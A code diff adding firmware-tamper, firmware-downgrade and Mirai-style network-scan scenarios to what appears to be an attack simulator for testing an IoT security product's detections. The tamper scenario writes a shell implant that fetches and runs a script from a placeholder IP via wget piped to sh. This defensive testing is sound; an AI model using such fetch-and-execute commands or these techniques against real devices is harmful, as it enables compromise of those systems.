@@ -1,4 +1,8 @@
 import { DeviceSdkError, connect, enroll, type DeviceConnection } from "@vigil/device-sdk";
+import { readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { writeScanCapture } from "./network-scan.js";
+import { hostOf } from "./observer.js";
 import { loadDefaultProfiles, type Profile } from "../policy/index.js";
 import { closedWithin, credentialsOf, endQuietly, rawConnect, rawSubscribe } from "./attacker.js";
 import type { Fleet } from "./fleet.js";
@@ -56,6 +60,32 @@ function blob(fleet: Fleet, bytes: number, seq: number): Record<string, unknown>
 }
 
 let rogueCount = 0;
+let releaseCount = 0;
+
+function otaOf(ctx: AttackContext) {
+  const ota = ctx.fleet.target.ota;
+  if (ota === undefined)
+    throw new Error("the firmware scenarios need an in-process Vigil (--embedded or vigil demo): they reach its update store");
+  return ota;
+}
+
+/** Waits until the device's OTA agent reported a final state (failed, installed, rolled back) for `campaign`. */
+async function finalReport(device: VirtualDevice, campaign: string, deadline: number, signal: AbortSignal) {
+  for (let i = 0; i < 10_000 && Date.now() < deadline && !signal.aborted; i++) {
+    const last = device.otaReports.find(
+      (r) => r.campaign === campaign && r.state !== "downloading" && r.state !== "verified" && r.state !== "installing",
+    );
+    if (last !== undefined) return last;
+    await sleep(100, signal);
+  }
+  return undefined;
+}
+
+/** `major.minor.patch` -> the same major, the next minor, a unique patch (a release newer than `version`). */
+function newerThan(version: string): string {
+  const [major = "1", minor = "0"] = version.split(".");
+  return `${major}.${Number(minor) + 1}.${Date.now() % 1_000_000}${++releaseCount}`;
+}
 
 export const scenarios = {
   "brute-force": {
@@ -348,18 +378,145 @@ export const scenarios = {
       };
     },
   },
+  "firmware-tamper": {
+    title: "tampered firmware image",
+    description:
+      "An attacker with write access to the update store changes the bytes of a signed release; Vigil's campaign offers it to the device, whose OTA agent checks the SHA-256 the signed metadata gives and refuses it.",
+    prefers: ["smart-meter", "plc", "infusion-pump", "ip-camera"],
+    async run(ctx, device, durationMs) {
+      const ota = otaOf(ctx);
+      const deadline = Date.now() + Math.max(durationMs, 5_000);
+      const version = newerThan(device.firmwareVersion);
+      const name = await ota.release(device.profile, version, ctx.fleet.random.bytes(64 * 1024));
+      await device.enableOta();
+      const running = device.firmwareVersion;
+      const file = await ota.imageFile(name);
+      const original = await readFile(file);
+      // Same length, different bytes: an implant written over the image's middle.
+      const implant = Buffer.from("#!/bin/sh\nwget http://203.0.113.7/x -O- | sh\n");
+      const tampered = Buffer.from(original);
+      implant.copy(tampered, Math.floor(tampered.length / 2));
+      await writeFile(file, tampered);
+      let campaign: string | undefined;
+      try {
+        campaign = await ota.campaign(name, [device.id]);
+        const report = await finalReport(device, campaign, deadline, ctx.signal);
+        return {
+          detail: {
+            release: name,
+            version,
+            campaign,
+            tamperedBytes: implant.length,
+            imageBytes: original.length,
+            deviceState: report?.state ?? null,
+            refusedFor: report?.reason ?? null,
+            runningBefore: running,
+            runningAfter: device.firmwareVersion,
+          },
+        };
+      } finally {
+        await writeFile(file, original);
+        if (campaign !== undefined) await ota.cancel(campaign);
+      }
+    },
+  },
+  "firmware-downgrade": {
+    title: "firmware downgrade",
+    description:
+      "An attacker replays the update command for an older release (validly signed, with a known vulnerability) straight to the device's firmware; its OTA agent refuses anything not newer than what it runs, and Vigil records the refused, unsolicited update.",
+    prefers: ["infusion-pump", "smart-meter", "plc", "ip-camera"],
+    async run(ctx, device, durationMs) {
+      const ota = otaOf(ctx);
+      const deadline = Date.now() + Math.max(durationMs, 3_000);
+      const [major = "1"] = device.firmwareVersion.split(".");
+      const old = `${Math.max(0, Number(major) - 1)}.9.${Date.now() % 1_000_000}${++releaseCount}`;
+      const name = await ota.release(device.profile, old, ctx.fleet.random.bytes(32 * 1024));
+      await device.enableOta();
+      const running = device.firmwareVersion;
+      const campaign = `attacker-${ctx.fleet.random.int(100_000, 999_999)}`;
+      const command = Buffer.from(JSON.stringify({ type: "ota", op: "update", campaign, target: name, version: old }));
+      const outcome = await device.deliverCommand(command);
+      const report = await finalReport(device, campaign, deadline, ctx.signal);
+      await sleep(Math.max(0, Math.min(1_000, deadline - Date.now())), ctx.signal);
+      return {
+        detail: {
+          release: name,
+          offeredVersion: old,
+          campaign,
+          deviceState: report?.state ?? outcome?.state ?? null,
+          refusedFor: report?.reason ?? outcome?.reason ?? null,
+          runningBefore: running,
+          runningAfter: device.firmwareVersion,
+        },
+      };
+    },
+  },
+  "network-scan": {
+    title: "Mirai-style network scan",
+    description:
+      "The device is infected and scans random IPv4 addresses for telnet (TCP SYNs to 23 and 2323, a few to 22/80/8080/7547) at 100 probes/s: written as a pcap of the site network (its normal traffic first) and, in-process, fed to Vigil's packet analysis.",
+    prefers: ["ip-camera", "environmental-sensor", "smart-meter"],
+    async run(ctx, device, durationMs) {
+      const startMs = Date.now();
+      const n = (ctx.fleet.devices().indexOf(device) + 2) % 65_000;
+      const deviceIp = `10.20.${Math.floor(n / 250)}.${(n % 250) + 2}`;
+      const period = device.behaviour.periodMs / 1000;
+      const capture = await writeScanCapture({
+        file: join(ctx.fleet.workDir, "network", `${device.id}-scan-${startMs}.pcap`),
+        random: ctx.fleet.random,
+        deviceIp,
+        gatewayIp: "10.20.0.1",
+        start: startMs / 1000,
+        end: (startMs + durationMs) / 1000,
+        // Enough normal traffic for the detector to learn from (about 3,000 packets).
+        baselineSeconds: Math.max(300, period * 1_500),
+        periodSeconds: period,
+        rate: 100,
+      });
+      await sleep(Math.max(0, startMs + durationMs - Date.now()), ctx.signal);
+      const alerts = await ctx.fleet.target.analyzeCapture?.(capture.file, capture.baselinePackets, {
+        address: deviceIp,
+        device: device.id,
+      });
+      return {
+        actors: [device.id, `ip:${deviceIp}`],
+        detail: {
+          capture: capture.file,
+          deviceIp,
+          packets: capture.packets,
+          baselinePackets: capture.baselinePackets,
+          probes: capture.probes,
+          ports: capture.ports,
+          addresses: capture.addresses,
+          ratePerSecond: capture.ratePerSecond,
+          analysed: alerts !== undefined,
+          alertsFromDevice: alerts?.filter((a) => hostOf(a.src) === deviceIp).length ?? null,
+        },
+      };
+    },
+  },
 } as const satisfies Record<string, ScenarioDefinition>;
 
 export type ScenarioName = keyof typeof scenarios;
 
 /** Scenarios the issue lists that need parts not built yet. */
-export const unavailableScenarios: Readonly<Record<string, string>> = {
-  "firmware-tamper": "needs the OTA agent in the simulated devices (a tampered image offered to the device)",
-  "firmware-downgrade": "needs the OTA agent in the simulated devices (an older signed image replayed)",
-  "network-scan": "Mirai-style scanning needs packet capture on the simulated network (packet analysis)",
-};
+export const unavailableScenarios: Readonly<Record<string, string>> = {};
 
 export const scenarioNames = Object.keys(scenarios) as ScenarioName[];
+
+/** The scenarios that act through the MQTT gateway and EST (what MQTT-side detection is measured on). */
+export const gatewayScenarioNames = [
+  "brute-force",
+  "recon",
+  "flood",
+  "exfil-slow",
+  "exfil-burst",
+  "cloned-identity",
+  "lateral-movement",
+  "behaviour-drift",
+  "token-replay",
+] as const satisfies readonly ScenarioName[];
+export type GatewayScenarioName = (typeof gatewayScenarioNames)[number];
 
 export function isScenarioName(name: string): name is ScenarioName {
   return Object.hasOwn(scenarios, name);
